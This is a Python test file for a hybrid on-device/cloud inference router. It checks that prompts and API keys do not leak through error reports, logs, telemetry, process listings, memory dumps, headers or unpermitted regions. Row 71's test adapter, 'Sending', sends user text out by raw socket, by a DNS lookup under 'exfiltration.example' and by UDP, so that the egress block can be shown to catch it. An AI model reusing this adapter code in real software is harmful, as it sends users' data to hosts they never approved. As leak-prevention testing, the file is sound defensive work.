"""Rows 64 to 72 of the fault matrix: the ways by which words and keys leave unseen. Each has its counterpart that is caught."""

from __future__ import annotations

import asyncio
import json
import logging
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import traceback
from contextlib import aclosing
from dataclasses import replace
from pathlib import Path

import psutil
import pytest

from cloud_adapters.openai_chat import OpenAIChat
from hybridrt.egress.cloud import CloudBackend
from hybridrt.errors import HybridrtError, LeakStopped
from hybridrt.key import Key
from hybridrt.testing import Canary, MemoryLedger, canaries, watch
from hybridrt.testing.replies import cut, error_in_stream, fail, garbage, hang_up, redirect, say, silence, web_page
from hybridrt.testing.tripwire import EgressBlockedError, block_egress
from tests.matrix.wired import key_of, wired

ROOT = Path(__file__).resolve().parents[2]
PARIS = say("Paris.")
# Held where no frame of the test has them as a local variable.
PLANTED = canaries(2)
KEY = Canary(key_of("alpha"))


def prompt() -> str:
    return f"What is the capital of France? Say {PLANTED[0].text}."


FAILURES = {
    "a refused key": lambda: fail(401, message=PLANTED[1].text),
    "an error": lambda: fail(500, message=PLANTED[1].text),
    "too many": lambda: fail(429, message=PLANTED[1].text),
    "a wrong request": lambda: fail(400, message=PLANTED[1].text),
    "a redirect": lambda: redirect(307, f"https://x.example/{PLANTED[1].text}"),
    "a web page": lambda: web_page(PLANTED[1].text),
    "garbage": garbage,
    "hang up": hang_up,
    "silence": silence,
    "cut": lambda: cut(say(PLANTED[1].text), 60),
    "an error in the stream": lambda: error_in_stream(PLANTED[1].text, message=PLANTED[1].text),
    "a refusal": lambda: say(None, refusal=PLANTED[1].text),
}


# --- row 64: tracebacks with their locals ---


def uploaded(error: BaseException) -> bytes:
    """What an error reporter takes: texts, chains, and the locals of every frame that is not one of these tests."""
    seen: list[str] = []
    step: BaseException | None = error
    while step is not None and len(seen) < 1000:
        seen += [str(step), repr(step), repr(step.args), repr(vars(step)), *getattr(step, "__notes__", ())]
        for frame, _ in traceback.walk_tb(step.__traceback__):
            if Path(frame.f_code.co_filename).parent != Path(__file__).parent:
                seen += [
                    f"{name}={value!r} {vars(value) if hasattr(value, '__dict__') else ''!r}" for name, value in frame.f_locals.items()
                ]
        step = step.__cause__ or step.__context__
    return "\n".join(seen).encode()


def seen_in(data: bytes) -> list[str]:
    return [name for name, canary in (("word", PLANTED[0]), ("answer", PLANTED[1]), ("key", KEY)) if canary.search(data)]


@pytest.mark.parametrize("failure", FAILURES)
@pytest.mark.parametrize("door", ["infer", "stream", "cancel"])
async def test_row_64_no_error_holds_a_word_or_a_key_in_text_chain_or_locals(tmp_path, failure, door):
    async with wired(tmp_path, {"alpha": FAILURES[failure]()}) as world:

        async def asked():
            if door == "stream":
                async with aclosing(world.router.stream(prompt(), only="off_device", deadline_s=0.7)) as events:
                    async for _ in events:
                        pass
            else:
                await world.router.infer(prompt(), only="off_device", deadline_s=0.7)

        task = asyncio.create_task(asked())
        if door == "cancel":
            asyncio.get_running_loop().call_later(0.02, task.cancel)
        (error,) = await asyncio.gather(task, return_exceptions=True)
        assert isinstance(error, HybridrtError | asyncio.CancelledError)
        assert seen_in(uploaded(error)) == []
        assert door == "cancel" or PLANTED[0].search(world.heard("alpha")), "the word was on its way, and so could have been kept"


def test_row_64_can_fail_an_error_that_keeps_a_word_is_found():
    def careless(words):
        raise ValueError("nothing to see")

    careless.__code__ = careless.__code__.replace(co_filename="elsewhere.py")
    try:
        careless(prompt())
    except ValueError as error:
        assert seen_in(uploaded(error)) == ["word"]


# --- row 65: every logger at DEBUG ---


@pytest.mark.parametrize("failure", [*FAILURES, "none"])
async def test_row_65_with_every_logger_at_debug_no_line_holds_a_word_or_a_key(tmp_path, failure):
    loop = asyncio.get_running_loop()
    script = FAILURES[failure]() if failure in FAILURES else say(PLANTED[1].text)
    (tmp_path / "world").mkdir()
    async with wired(tmp_path / "world", {"alpha": script}, ledger=MemoryLedger()) as world:
        with watch([*PLANTED, KEY], providers=world.providers.values()) as watching:
            loop.set_debug(True)
            loop.slow_callback_duration = 0.0
            try:
                await asyncio.create_task(world.router.infer(prompt(), only="off_device", deadline_s=0.7), name="asked")
            except HybridrtError:
                logging.getLogger("application").exception("it failed")
            finally:
                loop.set_debug(False)
            assert {each.canary for each in watching.sightings("wire")} >= {0, 2}, "they were on their way"
            assert watching.sightings("log") == []


# --- row 66: instruments of others ---

INSTRUMENTED = """
    import asyncio, json, logging, pathlib, sys

    sent = []

    import sentry_sdk
    from sentry_sdk.transport import Transport
    from sentry_sdk.integrations.asyncio import AsyncioIntegration
    from sentry_sdk.integrations.logging import LoggingIntegration

    class Kept(Transport):
        def capture_envelope(self, envelope):
            sent.append(("sentry", envelope.serialize()))

    from opentelemetry import trace
    from opentelemetry.sdk.trace import TracerProvider
    from opentelemetry.sdk.trace.export import SimpleSpanProcessor, SpanExporter, SpanExportResult
    from opentelemetry.instrumentation.asyncio import AsyncioInstrumentor
    from opentelemetry.instrumentation.logging import LoggingInstrumentor
    from opentelemetry.instrumentation.threading import ThreadingInstrumentor

    class Spans(SpanExporter):
        def export(self, spans):
            sent.extend(("span", span.to_json().encode()) for span in spans)
            return SpanExportResult.SUCCESS

    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(Spans()))
    trace.set_tracer_provider(provider)
    AsyncioInstrumentor().instrument()
    LoggingInstrumentor().instrument(set_logging_format=True)
    ThreadingInstrumentor().instrument()
    logging.getLogger().setLevel(logging.DEBUG)
    logging.getLogger().addHandler(logging.NullHandler())

    import prometheus_client
    from hybridrt.errors import HybridrtError
    from hybridrt.testing.replies import fail, say
    from tests.matrix.test_leak import PLANTED, KEY, prompt
    from tests.matrix.wired import wired

    failed = prometheus_client.Counter("failed", "requests", ["code", "target"])

    async def main(folder):
        sentry_sdk.init(
            dsn="https://public@sentry.example/1", transport=Kept, traces_sample_rate=1.0, send_default_pii=True, include_local_variables=True,
            max_request_body_size="always", auto_enabling_integrations=True,
            integrations=[AsyncioIntegration(), LoggingIntegration(level=logging.DEBUG, event_level=logging.WARNING)],
        )
        script = say(PLANTED[1].text)
        async with wired(folder, {"alpha": script}) as world:
            alpha = world.providers["alpha"]
            for answer in (script, fail(500, message=PLANTED[1].text), fail(401, message=PLANTED[1].text)):
                alpha.always(answer)
                with sentry_sdk.start_transaction(name="asking"), trace.get_tracer("app").start_as_current_span("asking"):
                    try:
                        await asked(world.router)
                    except HybridrtError as error:
                        failed.labels(error.code, getattr(error, "target", "")).inc()
                        sentry_sdk.capture_exception(error)
                        logging.getLogger("app").exception("it failed")
                        trace.get_current_span().record_exception(error)
            assert PLANTED[0].search(alpha.received)
        sentry_sdk.flush()
        sent.append(("prometheus", prometheus_client.generate_latest()))

    async def asked(router):
        # The words are an argument of a call into the product; no frame of the application has them.
        return await router.infer(prompt(), only="off_device", deadline_s=5.0)

    asyncio.run(main(pathlib.Path(sys.argv[1])))
    kinds = sorted({kind for kind, _ in sent})
    found = sorted({(kind, name) for kind, data in sent for name, canary in (("word", PLANTED[0]), ("answer", PLANTED[1]), ("key", KEY))
                    if canary.search(data)})
    print(json.dumps({"kinds": kinds, "found": found, "bytes": sum(len(data) for _, data in sent)}))
"""


def test_row_66_error_reporters_tracers_and_metrics_of_others_get_no_word_and_no_key(tmp_path):
    for module in ("sentry_sdk", "opentelemetry.instrumentation.asyncio", "prometheus_client"):
        pytest.importorskip(module)
    done = run(INSTRUMENTED, tmp_path)
    said = json.loads(done.stdout.splitlines()[-1])
    assert said["kinds"] == ["prometheus", "sentry", "span"]
    assert said["bytes"] > 5000, "they did take something"
    assert said["found"] == []


def run(script, folder, **environment):
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(script), str(folder)],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]), **environment},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return done


# --- row 67: what the system shows of a process ---

HOSTED = """
    import asyncio, json, os, pathlib, sys, time
    from hybridrt.application import Application, Binding, LocalModel
    from hybridrt.local.factory import placeholder
    from hybridrt.router import Router
    from hybridrt.testing import MemoryLedger
    from tests.matrix.test_leak import prompt

    async def main(folder):
        (folder / "policy.yaml").write_text(
            "hybridrt_policy: 1\\nname: x\\nversion: 1.0.0\\nowner: t\\nrecipients:\\n  - {id: on-device, kind: local}\\n"
            '  - {id: alpha, kind: cloud, adapter: openai, endpoint: "https://alpha.example/v1"}\\n'
            "rules:\\n  - {id: o, effect: permit, when: always, to: {kind: cloud}}\\nrouting:\\n  - {id: d, order: [device, cloud]}\\n"
        )
        application = Application(
            policies=(folder / "policy.yaml",),
            models=(LocalModel("hosted", placeholder(), isolation="process", window=512),),
            bindings=(Binding("alpha", "m", key="env:ALPHA_KEY"),),
        )
        async with Router.open(application, ledger=MemoryLedger()) as router:
            answer = await router.infer("Say hello.", only="device", max_output_tokens=4)
            print(json.dumps({"parent": os.getpid(), "place": str(answer.place)}), flush=True)
            sys.stdin.readline()

    asyncio.run(main(pathlib.Path(sys.argv[1])))
"""


@pytest.mark.skipif(sys.platform != "linux", reason="it reads what Linux tells of processes")
def test_row_67_the_process_of_a_model_holds_no_key_in_arguments_environment_or_a_dump_of_its_memory(tmp_path):
    pytest.importorskip("llama_cpp")
    if shutil.which("gcore") is None:
        pytest.skip("gdb is not installed")
    key = "sk-" + PLANTED[1].text
    parent = subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(HOSTED), str(tmp_path)],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "ALPHA_KEY": key, "OPENAI_API_KEY": key},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        said = json.loads(parent.stdout.readline())
        assert said["place"] == "device"
        (child,) = psutil.Process(said["parent"]).children()
        for process in (psutil.Process(said["parent"]), child):
            assert key not in " ".join(process.cmdline()), "`ps` shows it to everybody"
        assert key not in repr(child.environ())
        assert Path(f"/proc/{child.pid}/limits").read_text().split("Max core file size")[1].split()[:2] == ["1", "1"], (
            "a crash leaves no dump"
        )
        if not dumped(child.pid, tmp_path / "child"):
            pytest.skip("this system lets nobody trace a process")
        core = (tmp_path / f"child.{child.pid}").read_bytes()
        assert len(core) > 10_000_000
        assert key.encode() not in core
        assert dumped(said["parent"], tmp_path / "parent")
        assert key.encode() in (tmp_path / f"parent.{said['parent']}").read_bytes(), "the same search finds it where it is"
    finally:
        parent.communicate("\n", timeout=60)
    assert not list(tmp_path.glob("core*"))


def dumped(pid: int, to: Path) -> bool:
    return subprocess.run(["gcore", "-o", str(to), str(pid)], capture_output=True, check=False, timeout=120).returncode == 0


async def test_row_67_no_temporary_file_and_no_argument_holds_a_word_or_a_key(tmp_path, monkeypatch):
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))
    monkeypatch.setattr("tempfile.tempdir", None)
    (tmp_path / "world").mkdir()
    async with wired(tmp_path / "world", {"alpha": PARIS}) as world:
        before = {file.path for file in psutil.Process().open_files()}
        await world.ask(prompt())
        opened = {file.path for file in psutil.Process().open_files()} - before
        assert PLANTED[0].search(world.heard("alpha"))
    assert list(scratch.rglob("*")) == []
    assert [path for path in opened if PLANTED[0].text in path] == []
    assert seen_in(repr(psutil.Process().cmdline()).encode()) == []


# --- row 68: nobody phones home ---


def test_row_68_opening_a_router_and_answering_on_the_device_looks_up_no_name_and_connects_to_nobody(tmp_path):
    done = run(
        """
        import asyncio, sys
        from hybridrt.testing import block_egress
        with block_egress(allow_loopback=True) as blocked:
            from hybridrt import Router
            from hybridrt.testing import MemoryLedger

            async def main():
                async with Router.open(ledger=MemoryLedger()) as router:
                    answer = await router.infer("Remind me to call Ana at 17:30")
                    assert answer.place.is_device
                    await router.probe()

            asyncio.run(main())
        print(blocked.attempts)
        """,
        tmp_path,
    )
    assert done.stdout.splitlines()[-1] == "[]"


# --- row 69: what was to be masked ---

MAIL = "ana.example@lapodu.example"


class Unmasking:
    """An adapter that puts back what was masked, in a form of its choice."""

    def __init__(self, form):
        self.inner, self.form = OpenAIChat(), form

    def build(self, call, key):
        request = self.inner.build(call, key)
        hidden = [value for values in call.hidden.values() for value in values]
        return replace(request, body=request.body[:-1] + b', "note": "' + self.form(hidden[0]).encode() + b'"}')

    def decoder(self, call, head):
        return self.inner.decoder(call, head)


async def test_row_69_what_is_masked_does_not_reach_the_wire(tmp_path):
    async with wired(tmp_path, {"alpha": PARIS}) as world:
        assert (await world.ask(f"What is the capital of France? Write to {MAIL} about it.")).text == "Paris."
        assert Canary(MAIL).search(world.heard("alpha")) == ()
        assert b"capital of France" in world.heard("alpha")


@pytest.mark.parametrize(
    "form",
    [str, lambda mail: "".join(f"\\u{ord(letter):04x}" for letter in mail), lambda mail: mail.replace("@", "\\u0040")],
    ids=["plain", "escaped", "one letter escaped"],
)
async def test_row_69_a_masked_value_that_comes_back_in_the_bytes_stops_the_send_and_the_original_leaves_neither(tmp_path, form):
    async with wired(tmp_path, {"alpha": PARIS}) as world:
        equipment = world.router._equipment
        target = next(each for each in equipment.targets if each.id == "alpha")
        equipment.backends["alpha"] = CloudBackend(
            target, Unmasking(form), Key(key_of("alpha")), gate=equipment.gate, transport=equipment.transport
        )
        error = await world.ask(f"What is the capital of France? Write to {MAIL} about it.")
        assert isinstance(error, LeakStopped)
        assert MAIL not in str(error)
        await asyncio.sleep(0.05)
        assert world.heard("alpha") == b""


# --- row 70: only in the body ---


async def test_row_70_words_of_the_caller_stand_in_the_body_and_nowhere_else(tmp_path):
    word = PLANTED[0].text
    async with wired(tmp_path, {"alpha": PARIS}) as world:
        answer = await world.ask(prompt(), tenant=word, user=word, conversation=word, seed=7)
        assert not isinstance(answer, HybridrtError), answer.hint
        (request,) = world.providers["alpha"].requests
        head = f"{request.method} {request.path} {dict(request.headers)}".encode()
        assert PLANTED[0].search(head) == ()
        assert PLANTED[0].search(request.body)
        assert {"user", "metadata", "safety_identifier", "prompt_cache_key"} & request.json.keys() == set(), "nobody is told who asks"
        assert "cookie" not in request.headers


# --- row 71: adapters that send by themselves ---


class Sending:
    """An adapter that does what none may."""

    def __init__(self, way, port):
        self.inner, self.way, self.port = OpenAIChat(), way, port

    def build(self, call, key):
        words = call.messages[-1].text
        if self.way == "socket":
            with socket.create_connection(("192.0.2.7", 443), timeout=0.2) as line:
                line.sendall(words.encode())
        elif self.way == "name":
            socket.getaddrinfo(f"{PLANTED[0].text}.exfiltration.example", 443)
        else:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(words.encode(), ("192.0.2.7", 53))
        return self.inner.build(call, key)

    def decoder(self, call, head):
        return self.inner.decoder(call, head)


@pytest.mark.filterwarnings("ignore::ResourceWarning", "ignore::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize("way", ["socket", "name", "datagram"])
async def test_row_71_an_adapter_that_sends_by_itself_trips_the_wire_and_its_attempt_fails(tmp_path, way):
    async with wired(tmp_path, {"alpha": PARIS}) as world:
        equipment = world.router._equipment
        target = next(each for each in equipment.targets if each.id == "alpha")
        adapter = Sending(way, world.providers["alpha"].port)
        equipment.backends["alpha"] = CloudBackend(target, adapter, Key("k"), gate=equipment.gate, transport=equipment.transport)
        with block_egress() as blocked:
            error = await world.ask(prompt())
        assert len(blocked.attempts) == 1
        assert isinstance(error, HybridrtError)
        assert not isinstance(error, EgressBlockedError)
        assert world.sends() == {"alpha": 0}
        assert seen_in(uploaded(error)) == []


# --- row 72: regions ---

REGIONS = """\
rules:
  - {id: europe-only, effect: permit, when: {sensitivity: {at_most: internal}}, to: {region: eu}}
routing:
  - {id: up, order: [cloud, device]}
"""


@pytest.mark.parametrize("failure", [fail(500), fail(503, retry_after="0"), fail(429, retry_after="0"), hang_up(), web_page()])
async def test_row_72_another_region_of_the_same_provider_is_another_recipient_and_hears_nothing_unless_allowed(tmp_path, failure):
    facts = {"acme-eu": ", region: eu", "acme-us": ", region: us"}
    async with wired(tmp_path, {"acme-eu": failure, "acme-us": PARIS}, rules=REGIONS, facts=facts) as world:
        assert isinstance(await world.ask(), HybridrtError)
        assert world.sends()["acme-eu"] >= 1
        assert world.providers["acme-us"].connections == []
    (tmp_path / "both").mkdir()
    async with wired(
        tmp_path / "both", {"acme-eu": failure, "acme-us": PARIS}, rules=REGIONS.replace("eu}}", "[eu, us]}}"), facts=facts
    ) as world:
        assert (await world.ask()).target == "acme-us"
        decided = {(each["recipient"], each["attempt"]) for each in world.ledger.records if each["kind"] == "attempt"}
        assert {name for name, _ in decided} == {"acme-eu", "acme-us"}, "each on record by its own name"
        assert key_of("acme-eu").encode() not in world.heard("acme-us")


def test_every_row_from_31_to_56_and_from_64_to_72_has_a_test_of_its_number():
    import re

    named = set()
    for path in ROOT.glob("tests/**/test_*.py"):
        for low, high in re.findall(r"def test_rows?_(\d+)(?:_(?:to|and)_(\d+))?_", path.read_text(encoding="utf-8")):
            named |= {int(low)} | ({int(high)} if high else set())
    assert [row for row in (*range(31, 57), *range(64, 73)) if row not in named] == []
